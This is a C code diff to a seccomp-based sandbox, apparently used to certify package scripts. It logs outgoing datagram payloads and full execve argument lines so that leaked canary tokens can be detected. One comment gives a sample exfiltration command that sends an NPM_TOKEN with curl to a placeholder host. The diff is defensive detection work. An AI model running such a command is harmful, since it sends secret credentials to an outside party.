@@ -348,6 +348,10 @@ static ssize_t peek(pid_t pid, uint64_t addr, void *buf, size_t len)
 	return process_vm_readv(pid, &local, 1, &remote, 1, 0);
 }
 
+/* How much of each sent datagram is kept, so that certification can look
+ * for its canary tokens in what a script tried to send. */
+#define PAYLOAD_PREVIEW 256
+
 /* One destination read from the target. */
 typedef struct dest {
 	int      readable;  /* the sockaddr could be copied */
@@ -356,6 +360,7 @@ typedef struct dest {
 	unsigned port;
 	int      loopback;
 	char     dns_name[256];
+	char     payload[PAYLOAD_PREVIEW + 1]; /* printable preview, "" when none */
 } dest;
 
 static void read_dest(pid_t pid, uint64_t addr, uint64_t len, dest *d)
@@ -416,6 +421,20 @@ static void read_dns(pid_t pid, uint64_t buf, uint64_t len, dest *d)
 		dns_question(payload, (size_t)n, d->dns_name, sizeof d->dns_name);
 }
 
+/* The first bytes of a send buffer, with anything unprintable as '.'. */
+static void read_payload(pid_t pid, uint64_t buf, uint64_t len, dest *d)
+{
+	unsigned char bytes[PAYLOAD_PREVIEW];
+	if (len > sizeof bytes)
+		len = sizeof bytes;
+	ssize_t n = peek(pid, buf, bytes, (size_t)len);
+	if (n <= 0)
+		return;
+	for (ssize_t i = 0; i < n; i++)
+		d->payload[i] = bytes[i] >= 32 && bytes[i] < 127 ? (char)bytes[i] : '.';
+	d->payload[n] = '\0';
+}
+
 static int is_inet(const dest *d)
 {
 	return d->family == AF_INET || d->family == AF_INET6;
@@ -442,9 +461,17 @@ static void record(sandbox_result *r, const char *syscall_name, const dest *d)
 	a->dns = d->readable && is_inet(d) && d->port == 53;
 	if (a->dns && d->dns_name[0])
 		a->dns_name = sigma_xstrdup(d->dns_name);
+	if (d->payload[0])
+		a->payload = sigma_xstrdup(d->payload);
 }
 
-static void record_spawn(sandbox_result *r, pid_t pid, uint64_t path_addr)
+/* The command line of an execve: the path, then up to SPAWN_ARGS arguments,
+ * the whole capped at SPAWN_LINE bytes. Arguments are what certification
+ * searches for canary tokens (curl https://x/?t=$NPM_TOKEN). */
+#define SPAWN_ARGS 32
+#define SPAWN_LINE 2048
+
+static void record_spawn(sandbox_result *r, pid_t pid, uint64_t path_addr, uint64_t argv_addr)
 {
 	r->spawns++;
 	if (r->nspawned >= SANDBOX_MAX_SPAWN_PATHS)
@@ -456,8 +483,25 @@ static void record_spawn(sandbox_result *r, pid_t pid, uint64_t path_addr)
 	path[n] = '\0'; /* the string may end earlier; strlen finds it */
 	if (strlen(path) == (size_t)n && n == (ssize_t)sizeof path - 1)
 		return; /* unterminated: not worth logging */
+	sigma_buf line;
+	sigma_buf_init(&line, SPAWN_LINE);
+	sigma_buf_puts(&line, path);
+	uint64_t ptrs[SPAWN_ARGS + 1];
+	ssize_t got = argv_addr ? peek(pid, argv_addr, ptrs, sizeof ptrs) : -1;
+	for (size_t i = 1; got > 0 && i < (size_t)got / sizeof *ptrs && ptrs[i]; i++) {
+		char arg[512];
+		ssize_t m = peek(pid, ptrs[i], arg, sizeof arg - 1);
+		if (m <= 0)
+			break;
+		arg[m] = '\0';
+		for (char *p = arg; *p; p++)
+			if ((unsigned char)*p < 32)
+				*p = ' ';
+		if (sigma_buf_putc(&line, ' ') || sigma_buf_puts(&line, arg))
+			break; /* the cap: keep what fits */
+	}
 	r->spawned = sigma_xrealloc(r->spawned, (r->nspawned + 1) * sizeof *r->spawned);
-	r->spawned[r->nspawned++] = sigma_xstrdup(path);
+	r->spawned[r->nspawned++] = sigma_buf_steal(&line);
 }
 
 /* A held network call. Up to 8 destinations (sendmmsg) are examined. */
@@ -501,6 +545,7 @@ int sandbox_seccomp_handle(sandbox_notifier *n, int listener, sandbox_result *r)
 		read_dest(pid, a[4], a[5], &d[nd]);
 		if (d[nd].port == 53)
 			read_dns(pid, a[1], a[2], &d[nd]);
+		read_payload(pid, a[1], a[2], &d[nd]);
 		nd++;
 		break;
 	case SYS_sendmsg: {
@@ -514,9 +559,11 @@ int sandbox_seccomp_handle(sandbox_notifier *n, int listener, sandbox_result *r)
 			break; /* no destination: a connected socket */
 		read_dest(pid, (uintptr_t)mh.msg_name, mh.msg_namelen, &d[nd]);
 		struct iovec iov;
-		if (d[nd].port == 53 && mh.msg_iovlen > 0 &&
-		    peek(pid, (uintptr_t)mh.msg_iov, &iov, sizeof iov) == (ssize_t)sizeof iov)
-			read_dns(pid, (uintptr_t)iov.iov_base, iov.iov_len, &d[nd]);
+		if (mh.msg_iovlen > 0 && peek(pid, (uintptr_t)mh.msg_iov, &iov, sizeof iov) == (ssize_t)sizeof iov) {
+			if (d[nd].port == 53)
+				read_dns(pid, (uintptr_t)iov.iov_base, iov.iov_len, &d[nd]);
+			read_payload(pid, (uintptr_t)iov.iov_base, iov.iov_len, &d[nd]);
+		}
 		nd++;
 		break;
 	}
@@ -554,7 +601,8 @@ int sandbox_seccomp_handle(sandbox_notifier *n, int listener, sandbox_result *r)
 		return 0;
 
 	if (spawn) {
-		record_spawn(r, pid, req->data.nr == SYS_execve ? a[0] : a[1]);
+		record_spawn(r, pid, req->data.nr == SYS_execve ? a[0] : a[1],
+		             req->data.nr == SYS_execve ? a[1] : a[2]);
 		/* Counting only; the exec itself is subject to everything else
 		 * (mounts, nosuid, no_new_privs, the filter it inherits). */
 		resp->flags = SECCOMP_USER_NOTIF_FLAG_CONTINUE;
